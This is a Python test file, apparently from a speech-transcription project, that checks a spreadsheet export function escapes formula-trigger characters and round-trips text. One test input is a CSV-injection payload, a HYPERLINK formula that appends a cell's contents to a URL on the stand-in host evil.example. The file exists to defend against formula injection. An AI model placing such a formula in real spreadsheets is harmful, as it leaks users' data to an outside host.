"""A transcript must not run in the spreadsheet of whoever opens the table."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from asr.spreadsheet import cells, told


def test_a_formula_is_text() -> None:
    attack = '=HYPERLINK("http://evil.example?"&A1,"click")'
    assert cells([attack, "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝1", "'=1"]) == [
        *(f"'{attack}", "'+1", "'-1+2", "'@SUM(A1)", "'\t=1", "'\r=1", "'＝1", "''=1"),
    ]


def test_all_other_text_and_numbers_are_as_they_were() -> None:
    row = ["'s avonds", "a=b", "", 0.5, -3, None, "e-mail"]
    assert cells(row) == row


@given(st.text(st.sampled_from("'=+-@\ta "), max_size=6))
def test_what_was_written_can_be_read(text: str) -> None:
    (cell,) = cells([text])
    assert told(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t"))
